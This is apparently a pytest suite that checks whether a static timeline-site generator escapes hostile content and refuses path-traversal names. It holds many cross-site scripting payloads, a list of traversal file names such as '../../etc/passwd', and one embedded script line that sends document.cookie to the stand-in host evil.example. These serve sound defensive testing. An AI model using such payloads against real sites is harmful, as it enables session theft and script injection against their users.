"""Hostile text in every field and every article: the built site runs no content script, loads nothing,
links nowhere unsafe, and every machine-readable output carries the text escaped, never as markup.

Also: ids, article names and output paths that try to leave the project are refused, and nothing is
written outside it.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from conftest import run_timeline
from lxml import etree
from lxml import html as lxml_html

from timeline.files.yaml_writer import dump_yaml

# One payload per trick; every text field gets all of them, so a field that forgets escaping shows up.
PAYLOADS = [
    "<script>alert('s')</script>",
    "<img src=x onerror=alert('i')>",
    '"><svg onload=alert(1)><rect/></svg>',
    "'><iframe src=javascript:alert(1)></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>go</button></form>",
    '<a href="javascript:alert(1)" style="color:red">x</a>',
    "</title></style></textarea><style>body{background:url(javascript:alert(1))}</style>",
    "]]><!-- --><?xml-stylesheet href=x?>",
    "{{ 7*7 }}{% if 1 %}jinja{% endif %}",
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "\u202eevil\u202c \ufeff zero\u200bwidth",
]
TEXT = " ".join(PAYLOADS)

# Markdown-only tricks for summaries: links, images, autolinks, reference links, raw HTML blocks.
MARKDOWN = "\n\n".join([
    "Intro " + TEXT.replace("\t", " "),
    "[a](javascript:alert(1)) [b]( JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](java%09script:alert(1))",
    "[e](data:text/html,<script>alert(1)</script>) [f](vbscript:msgbox(1)) [g](//evil.example/x)",
    "![img](https://evil.example/track.png) ![img2](javascript:alert(1) \"t\")",
    "<javascript:alert(1)> <http://ok.example/\"onmouseover=alert(1)> <mailto:x@example.com>",
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    "<div onclick=alert(1)>raw block</div>\n\n<script>alert('block')</script>",
    "[ok](https://example.com/fine) [rel](../relative/) [frag](#top)",
])

THEME_SCRIPTS = {"search.js"}  # the theme's own script files; anything else is injected
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "poster", "background", "data", "srcset")
FORBIDDEN_TAGS = {"iframe", "object", "embed", "form", "frame", "frameset", "applet", "base", "meta-refresh"}
THEME_STYLE = re.compile(r"^--c: #[0-9a-fA-F]{3,6}$")


def hostile_files() -> dict[str, str]:
    """A whole project whose every free-text field holds every payload (ids and dates stay valid)."""
    config = {
        "title": "Config " + TEXT,
        "description": "Description " + TEXT,
        "threads": [
            {"id": "evil-thread", "title": "Thread " + TEXT, "description": "Thread description " + TEXT,
             "color": "#123abc", "rules": {"people": ["Eve Hostile"], "phrases": [TEXT]}},
        ],
    }
    people = {"people": [{
        "id": "eve-hostile", "name": "Eve Hostile", "title": "Gen. " + TEXT,
        "aliases": ["Alias " + TEXT], "country": "Country " + TEXT, "description": "Person description " + TEXT,
        "roles": [{"role": "Role " + TEXT, "organisation": "Org " + TEXT, "start": "2020-01"}],
    }, {
        "id": "mallory-markup", "name": "Mallory <b>Markup</b> " + TEXT,
    }]}

    def event(event_id: str, date: str, status: str = "reviewed") -> dict:
        return {
            "id": event_id, "title": "Title " + TEXT, "date": date, "kind": "meeting", "place": "Place " + TEXT,
            "status": status, "summary": MARKDOWN,
            "participants": [
                {"name": "Eve Hostile", "title": "Title " + TEXT, "role": "Role " + TEXT, "country": "C " + TEXT,
                 "person": "eve-hostile"},
                {"name": "Unregistered " + TEXT, "title": TEXT, "role": TEXT, "country": TEXT},
            ],
            "sources": [
                {"article": "evil.txt", "outlet": "Outlet " + TEXT, "url": "https://example.com/a?q=1&x='y'#f",
                 "published": "2020-02-02", "headline": "Headline " + TEXT, "author": "Author " + TEXT,
                 "quote": "Quote " + TEXT},
                {"url": "https://example.com/story", "outlet": TEXT, "headline": TEXT, "quote": TEXT},
            ],
            "mentions": [{"summary": "Mention " + TEXT, "date": "2019", "quote": "Mention quote " + TEXT,
                          "article": "evil.txt"}],
            "threads": ["evil-thread"],
            "related": [{"id": "2020-03-04-second" if event_id != "2020-03-04-second" else "2020-02-03-first",
                         "reason": "Reason " + TEXT}],
            "review": {"needs": ["place"], "notes": {"place": "Note " + TEXT}, "evidence": {"place": "Ev " + TEXT},
                       "confidence": {"place": 0.5}},
        }

    files = {
        "content/timeline.yaml": dump_yaml(config),
        "content/people.yaml": dump_yaml(people),
        "content/articles/evil.txt": "An article. " + TEXT + "\n",
    }
    for event_id, date, status in (("2020-02-03-first", "2020-02-03", "reviewed"),
                                   ("2020-03-04-second", "2020-03-04", "reviewed"),
                                   ("2020-04-draft", "2020-04", "draft")):
        files[f"content/events/{event_id}.yaml"] = dump_yaml(event(event_id, date, status))
    return files


def unsafe_url(value: str) -> bool:
    """A URL attribute that is not http(s), a relative path, a #fragment or mailto (once browsers' tricks undone)."""
    squeezed = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
    scheme = re.match(r"^([a-z][a-z0-9+.-]*):", squeezed)
    if scheme is None:
        return False  # relative, #fragment, or //host (a foreign host is not script; the theme never makes one)
    return scheme.group(1) not in ("http", "https", "mailto")


def html_violations(name: str, text: str, *, fragment: bool = False) -> list[str]:
    """Everything in one HTML document (or fragment, as in a feed's content) that content could have injected."""
    found: list[str] = []
    if not text.strip():
        return found
    root = lxml_html.fragment_fromstring(text, create_parent="div") if fragment else lxml_html.document_fromstring(text)
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # comments and processing instructions are inert
        tag = element.tag.lower().split("}")[-1]
        if tag == "script":
            src = element.get("src", "")
            if fragment or not src or src.rsplit("/", 1)[-1] not in THEME_SCRIPTS or element.text:
                found.append(f"{name}: <script src={src!r}>{(element.text or '')[:40]}")
        theme_search = tag == "form" and element.get("role") == "search" and element.get("method") == "get" \
            and not unsafe_url(element.get("action", "")) and not fragment  # the 404 page's own search box
        if tag in FORBIDDEN_TAGS and not theme_search:
            found.append(f"{name}: <{tag}>")
        if tag == "style":
            found.append(f"{name}: <style> element")
        if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            found.append(f"{name}: meta refresh")
        for attribute, value in element.attrib.items():
            key = attribute.lower().split("}")[-1]
            if key.startswith("on"):
                found.append(f"{name}: <{tag} {key}=...>")
            if key in URL_ATTRIBUTES and unsafe_url(value):
                found.append(f"{name}: <{tag} {key}={value!r}>")
            if key == "style" and not THEME_STYLE.match(value.strip()):
                found.append(f"{name}: <{tag} style={value!r}>")
    return found


def svg_violations(name: str, text: str) -> list[str]:
    """The overview SVG is drawn by the theme: only shapes and text, no script, links or foreign objects."""
    found = []
    root = lxml_html.document_fromstring(text)
    for svg in root.iter("svg"):
        for element in svg.iter():
            if not isinstance(element.tag, str):
                continue
            tag = element.tag.lower().split("}")[-1]
            if tag in ("script", "foreignobject", "iframe", "use", "image", "animate", "set"):
                found.append(f"{name}: <svg> holds <{tag}>")
    return found


def build(project: Path, *args: str) -> Path:
    out = project / "site"
    result = run_timeline("-C", str(project), "build", *args, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return out


def check_outputs(site: Path) -> tuple[list[str], dict[str, int]]:
    """Parse every output file by its kind; return the violations and how many files of each kind were checked."""
    violations: list[str] = []
    kinds: dict[str, int] = {}
    for path in sorted(p for p in site.rglob("*") if p.is_file()):
        name = path.relative_to(site).as_posix()
        data = path.read_bytes()
        suffix = path.suffix.lower()
        kinds[suffix] = kinds.get(suffix, 0) + 1
        if suffix == ".html":
            text = data.decode("utf-8")
            violations += html_violations(name, text) + svg_violations(name, text)
        elif suffix == ".json":
            json.loads(data)  # hostile quotes and backslashes were escaped, or it would not parse
        elif suffix in (".xml",):
            root = ET.fromstring(data)  # well-formed, so the hostile text did not open elements
            for element in root.iter():
                local = element.tag.split("}")[-1]
                assert local not in ("script", "iframe", "img", "svg", "style"), f"{name}: <{local}> element"
                if element.get("type") == "html" and element.text:
                    violations += html_violations(f"{name}:{local}", element.text, fragment=True)
                for key, value in element.attrib.items():
                    if key.split("}")[-1] in ("href", "src", "uri") and unsafe_url(value):
                        violations.append(f"{name}: <{local} {key}={value!r}>")
        elif suffix == ".ics":
            text = data.decode("utf-8")
            unfolded = text.replace("\r\n ", "")
            for line in unfolded.split("\r\n"):
                if line:
                    assert re.match(r"^[A-Z][A-Z0-9-]*[;:]", line), f"{name}: injected line {line[:60]!r}"
            assert unfolded.count("BEGIN:VEVENT") == unfolded.count("END:VEVENT")
        elif suffix == ".txt":
            text = data.decode("utf-8")
            assert "<" not in text, f"{name}: markup in a text file"
    return violations, kinds


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> tuple[Path, Path]:
    """The hostile project built once with drafts (every field shown) for the assertions below."""
    from conftest import write_files

    root = tmp_path_factory.mktemp("hostile") / "project"
    write_files(root, hostile_files())
    (root / "content" / "events").mkdir(parents=True, exist_ok=True)
    check = run_timeline("-C", str(root), "check")
    assert check.returncode == 0, check.stderr
    return root, build(root, "--drafts", "--base-url", "https://example.org/tl/")


def test_every_output_file_is_free_of_injected_markup(hostile_site):
    _, site = hostile_site
    violations, kinds = check_outputs(site)
    assert not violations, "\n".join(violations[:40])
    # Every kind of output was looked at, not an empty folder.
    assert kinds.get(".html", 0) >= 8 and kinds.get(".json", 0) >= 2
    assert kinds.get(".xml", 0) >= 1 and kinds.get(".ics", 0) == 1


def test_hostile_text_survives_as_visible_text(hostile_site):
    """Escaping, not deletion: a reader still sees what the source said."""
    _, site = hostile_site
    page = lxml_html.document_fromstring((site / "events" / "2020-02-03-first" / "index.html").read_text("utf-8"))
    text = page.text_content()
    for payload in ("<script>alert('s')</script>", "<img src=x onerror=alert('i')>", "{{ 7*7 }}"):
        assert payload in text
    assert "49" not in re.sub(r"\d{4}-\d\d-\d\d", "", text.split("{{ 7*7 }}")[0])[-5:]  # not evaluated


def test_summary_links_keep_only_safe_targets(hostile_site):
    _, site = hostile_site
    page = lxml_html.document_fromstring((site / "events" / "2020-02-03-first" / "index.html").read_text("utf-8"))
    summary_links = {a.text_content(): a.get("href") for a in page.iter("a")}
    assert summary_links.get("ok") == "https://example.com/fine"
    for text in ("a", "b", "c", "d", "e", "f", "g", "ref link"):
        href = summary_links.get(text)
        assert href is None or not unsafe_url(href) and not href.startswith("//"), (text, href)
    assert not list(page.iter("img")) or all(not unsafe_url(i.get("src", "")) and "evil.example" not in
                                             i.get("src", "") for i in page.iter("img"))


def test_feed_and_data_carry_the_title_as_text(hostile_site):
    _, site = hostile_site
    feed = ET.fromstring((site / "feed.xml").read_bytes())
    titles = [e.text for e in feed.iter() if e.tag.endswith("title")]
    assert any(t and "<script>alert('s')</script>" in t for t in titles)
    data = json.loads((site / "data" / "timeline.json").read_bytes())
    assert "<script>alert('s')</script>" in json.dumps(data, ensure_ascii=False)


def test_content_stays_inside_the_project(hostile_site):
    """A build writes only site/ and .timeline/ (nothing beside the project, nothing in content/)."""
    root, _ = hostile_site
    assert sorted(p.name for p in root.parent.iterdir()) == ["project"]
    assert {p.name for p in root.iterdir()} <= {"content", "site", ".timeline"}


# --- an ingested article full of HTML and script -------------------------------------------------------------

EVIL_ARTICLE_HTML = """<!doctype html><html><head><title>Gen. Eve Hostile meets Gen. Bob Plain in Geneva</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="alert(1)">
<h1>Gen. Eve Hostile meets Gen. Bob Plain <img src=x onerror=alert(1)> in Geneva</h1>
<p class="byline">By <a href="javascript:alert(1)">Reporter &lt;script&gt;alert(2)&lt;/script&gt;</a></p>
<p>GENEVA, March 3, 2021 - Gen. Eve Hostile, the army chief of Freedonia, met Gen. Bob Plain on Tuesday
in Geneva &lt;img src=x onerror=alert(3)&gt; to discuss a ceasefire, officials said.</p>
<p>The two generals last met in January 2020 &lt;script&gt;alert(4)&lt;/script&gt; in Vienna.</p>
<iframe src="javascript:alert(5)"></iframe><object data="evil.swf"></object>
<p>"We agreed on <b onmouseover=alert(6)>next steps</b>," Hostile said in a statement.
<a href="data:text/html,<script>alert(7)</script>">more</a></p>
<form action="javascript:alert(8)"><input name=q></form>
</body></html>
"""

EVIL_ARTICLE_TEXT = """Gen. Mallory <script>alert(9)</script> visits Sylvania

By <img src=x onerror=alert(10)> Staff Writer
Published: 4 May 2021

SYLVANIA CITY, May 4, 2021 - Gen. Mallory Markup <svg onload=alert(11)>, the defence chief of Ruritania,
visited Sylvania City on Tuesday for talks on border security, the ministry said in a statement.
Read more at javascript:alert(12) and [click](javascript:alert(13)).
"""


def test_ingested_hostile_articles_build_clean_with_drafts(make_project):
    root = make_project({
        "content/timeline.yaml": "title: Ingest test\n",
        "content/people.yaml": "people: []\n",
        "content/articles/evil.html": EVIL_ARTICLE_HTML,
        "content/articles/evil.txt": EVIL_ARTICLE_TEXT,
    })
    ingest = run_timeline("-C", str(root), "ingest", "--quiet", "--jobs", "1", timeout=120)
    assert "Traceback" not in ingest.stderr
    assert ingest.returncode == 0, ingest.stderr
    stubs = sorted((root / "content" / "events").glob("*.yaml"))
    assert stubs, ingest.stderr
    check = run_timeline("-C", str(root), "check")
    assert check.returncode == 0, check.stderr
    site = build(root, "--drafts")
    violations, kinds = check_outputs(site)
    assert not violations, "\n".join(violations[:40])
    assert kinds[".html"] >= 5
    # The stubs themselves: every URL the extractor kept is http(s).
    for stub in stubs:
        for url in re.findall(r"^\s*url: (.+)$", stub.read_text("utf-8"), re.M):
            assert url == "null" or url.startswith(("http://", "https://", "'http", '"http')), (stub.name, url)


# --- paths that try to leave the project ----------------------------------------------------------------------

BAD_NAMES = [
    "../escape", "../../etc/passwd", "/etc/passwd", "a/../../b", "..", "evil\u2215slash",  # division slash
    "evil\uff0fslash", "evil\u202etxt.exe", "nul\x00byte", "x" * 300, "CON", "back\\slash", "c:drive",
]


@pytest.mark.parametrize("name", BAD_NAMES, ids=range(len(BAD_NAMES)))
def test_bad_event_id_in_a_file_is_refused(make_project, cli, name):
    escaped = json.dumps(name)  # a YAML double-quoted string takes JSON escapes (\u0000 included)
    root = make_project({
        "content/events/x.yaml": f"id: {escaped}\ntitle: T\ndate: 2020\nkind: other\nstatus: draft\nsummary: s\n",
    })
    before = tree_hashes(root.parent)
    result = cli("-C", str(root), "check")
    assert result.code == 1
    assert "content/events/x.yaml:1" in result.err
    assert "Traceback" not in result.err
    build_result = cli("-C", str(root), "build")
    assert build_result.code == 1
    assert tree_hashes(root.parent) == before  # not even a site/ folder


@pytest.mark.parametrize("name", BAD_NAMES, ids=range(len(BAD_NAMES)))
def test_bad_id_for_new_is_refused(make_project, cli, name):
    root = make_project({"content/timeline.yaml": "title: T\n"})
    if "\x00" in name:
        pytest.skip("a command-line argument cannot hold NUL")
    before = tree_hashes(root.parent)
    result = cli("-C", str(root), "new", "A title", "--id", name)
    assert result.code == 2, result.err
    assert "--id" in result.err and "Traceback" not in result.err
    assert tree_hashes(root.parent) == before


@pytest.mark.parametrize("name", BAD_NAMES + ["../articles-elsewhere/x.txt", "sub/../../x.txt"],
                         ids=range(len(BAD_NAMES) + 2))
def test_source_article_that_leaves_the_folder_is_refused(make_project, cli, name):
    escaped = json.dumps(name)
    root = make_project({
        "content/events/x.yaml": ("id: x\ntitle: T\ndate: 2020\nkind: other\nstatus: reviewed\nsummary: s\n"
                                  f"sources:\n  - article: {escaped}\n    quote: q\n"),
    })
    (root.parent / "articles-elsewhere").mkdir()
    (root.parent / "articles-elsewhere" / "x.txt").write_text("outside\n")
    result = cli("-C", str(root), "check")
    assert result.code == 1, result.err
    assert "content/events/x.yaml:8" in result.err and "Traceback" not in result.err


def test_title_that_looks_like_a_path_makes_a_safe_id(make_project, cli):
    root = make_project({"content/timeline.yaml": "title: T\n"})
    before = set(p for p in root.parent.rglob("*"))
    for title in ("../../../etc/passwd", "/abs/path", "\u202eexe.txt", "evil\uff0fslash", "x" * 500):
        result = cli("-C", str(root), "new", title, "--date", "2020")
        assert result.code == 0, result.err
    created = set(root.parent.rglob("*")) - before
    assert created and all(p.parent == root / "content" / "events" for p in created), created
    for path in created:
        assert re.fullmatch(r"[a-z0-9-]+\.yaml", path.name), path.name
        assert len(path.name) < 120


@pytest.mark.parametrize("out", ["content", ".", "..", "content/events"])
def test_build_refuses_an_output_folder_that_would_replace_the_project(demo_project, cli, out):
    before = tree_hashes(demo_project)
    result = cli("-C", str(demo_project), "build", "--out", str(demo_project / out))
    assert result.code == 1, result.err
    assert "output folder" in result.err and "Traceback" not in result.err
    assert tree_hashes(demo_project) == before


def test_ingest_of_an_article_path_outside_the_project_copies_only_into_articles(make_project, tmp_path):
    root = make_project({"content/timeline.yaml": "title: T\n", "content/people.yaml": "people: []\n"})
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    evil = outside / "..evil name\u202e.txt"
    evil.write_text(EVIL_ARTICLE_TEXT, encoding="utf-8")
    result = run_timeline("-C", str(root), "ingest", "--quiet", str(evil), timeout=120)
    assert "Traceback" not in result.stderr, result.stderr
    inside = [p for p in (root / "content" / "articles").rglob("*") if p.is_file()]
    assert all(p.parent == root / "content" / "articles" for p in inside)
    assert sorted(p.name for p in outside.iterdir()) == [evil.name]


def tree_hashes(root: Path) -> dict[str, str]:
    """Relative path -> sha256 of every file under `root` (folders as "dir")."""
    result = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames:
            result[os.path.relpath(os.path.join(dirpath, name), root)] = "dir"
        for name in filenames:
            path = os.path.join(dirpath, name)
            if "/.timeline/" in path + "/" or name == "lock":
                continue
            with open(path, "rb") as handle:
                result[os.path.relpath(path, root)] = hashlib.sha256(handle.read()).hexdigest()
    return {k: v for k, v in result.items() if not k.startswith(".timeline") and "/.timeline" not in k}


def test_svg_overview_is_drawn_by_the_theme_only(hostile_site):
    _, site = hostile_site
    page = (site / "index.html").read_text("utf-8")
    root = lxml_html.document_fromstring(page)
    svgs = list(root.iter("svg"))
    assert svgs, "the home page has an overview"
    for svg in svgs:
        serialised = etree.tostring(svg, encoding="unicode")
        assert "<script" not in serialised and "onload" not in serialised.replace("onload=alert(1)&gt;", "")


@pytest.mark.parametrize("bad", [
    "<p><script>alert(1)</script></p>", '<img src="x" onerror="alert(1)">', '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<iframe src="x"></iframe>',
    '<form action="https://evil.example/"></form>', '<p style="background:url(x)">x</p>', "<style>p{}</style>",
    '<svg><foreignObject><p>x</p></foreignObject></svg>', '<object data="x"></object>', '<a href="data:text/html,x">',
])
def test_the_checker_itself_catches_each_trick(bad):
    """The assertions above would pass on anything if the checker were blind; it is not."""
    page = f"<!doctype html><html><head><title>t</title></head><body>{bad}</body></html>"
    assert html_violations("page", page) + svg_violations("page", page)
